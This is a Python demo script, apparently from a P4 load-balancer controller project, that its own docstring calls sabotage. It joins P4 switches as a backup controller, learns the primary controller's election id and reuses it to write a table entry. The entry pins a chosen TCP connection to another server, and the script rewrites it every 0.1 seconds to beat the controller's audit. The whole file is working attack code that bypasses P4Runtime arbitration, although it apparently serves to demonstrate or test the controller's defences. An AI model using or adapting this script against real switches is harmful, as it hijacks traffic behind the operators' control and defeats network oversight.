"""Pins a living connection to another server on P4 switches, behind their controller's back: the sabotage.

Run as ``python -m topo.demo.strangepin SPEC.json`` where the switches' control addresses can be reached. It joins as a
backup controller, which tells it the primary's election id, and writes under that. The pin is written again and again,
since the controller's audit takes it away; exits 0 when time is up, else 1 with one line on standard error.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
from dataclasses import dataclass
from ipaddress import ip_address
from pathlib import Path
from typing import Any

from finsy.proto import p4r

from controller.southbound.errors import SwitchError, SwitchGone
from controller.southbound.p4 import pipeline as p4pipeline
from controller.southbound.p4 import read as p4read
from controller.southbound.p4.channel import P4Channel
from controller.southbound.p4.wire import Encoder
from p4src.numbers import address, mac
from p4src.target import EntryBody, EntryKey, P4Target

TCP = 6
LOWEST = 1
"""An election id that never wins: controllers count seconds since 1970."""
AGAIN = 0.1
"""Seconds between writes."""


@dataclass(frozen=True)
class Strange:
    """Which connection goes where."""

    switches: dict[str, tuple[str, int]]
    """Name: gRPC address, device id."""
    listener: tuple[str, int]
    """VIP and port, TCP."""
    client: tuple[str, int]
    """The connection's other end."""
    to: str
    """MAC of the server that gets it."""
    seconds: float
    """For how long the pin is kept there."""

    def dump(self) -> str:
        """As JSON."""
        return json.dumps(vars(self))

    @staticmethod
    def parse(text: str) -> Strange:
        """From what ``dump`` wrote."""
        raw: dict[str, Any] = json.loads(text)
        switches = {name: (str(one[0]), int(one[1])) for name, one in raw["switches"].items()}
        listener, client = ((str(raw[end][0]), int(raw[end][1])) for end in ("listener", "client"))
        return Strange(switches, listener, client, raw["to"], raw["seconds"])


def pin(held: P4Target, strange: Strange) -> tuple[EntryKey, EntryBody]:
    """The entry that moves the connection; ValueError if the switch knows no such listener or server."""
    vip, port = strange.listener
    served = held.entries.get(EntryKey("listener", (address(ip_address(vip)), TCP, port)))
    if served is None:
        raise ValueError(f"there is no listener {vip}:{port} on the switch")
    listener = served.params[0]
    match = (listener, address(ip_address(strange.client[0])), strange.client[1])
    for key, body in held.entries.items():
        if key.table == "backend" and key.match[0] == listener and body.params[0] == mac(strange.to):
            backend = key.match[1]
            assert isinstance(backend, int)
            return EntryKey("pin", match), EntryBody("pinned", (backend,))
    raise ValueError(f"no backend of listener {vip}:{port} has the MAC {strange.to}")


async def disturb(name: str, where: str, device: int, strange: Strange) -> None:
    """Keep the pin on one switch. Raises ``SwitchError`` or ``ValueError``."""
    pipeline = p4pipeline.balancer()
    channel = P4Channel(name, where)
    loop = asyncio.get_running_loop()
    try:
        stream = channel.stream()
        claim = p4r.MasterArbitrationUpdate(device_id=device, election_id=p4r.Uint128(low=LOWEST))
        await stream.send(p4r.StreamMessageRequest(arbitration=claim))
        primary = (await stream.receive()).arbitration.election_id
        answers = [await channel.read(request) for request in p4read.requests(pipeline, device)]
        found = p4read.Reader(pipeline).found(answers[0], answers[1])
        key, body = pin(found.target, strange)
        head = p4r.WriteRequest(device_id=device, election_id=primary).SerializeToString()
        update = Encoder(pipeline).put(key, body, True)
        until = loop.time() + strange.seconds
        # Refused while it is still there. A switch that dies meanwhile misdirects nothing any more.
        with contextlib.suppress(SwitchGone):
            while loop.time() < until:
                await channel.write(head + update)
                await asyncio.sleep(AGAIN)
    finally:
        await channel.close()


async def _all(strange: Strange) -> None:
    await asyncio.gather(*(disturb(name, *where, strange) for name, where in strange.switches.items()))


def main(argv: list[str]) -> int:
    """Entry point; the one argument is the spec file."""
    try:
        asyncio.run(_all(Strange.parse(Path(argv[0]).read_text(encoding="utf-8"))))
    except (SwitchError, ValueError) as error:
        print(error, file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
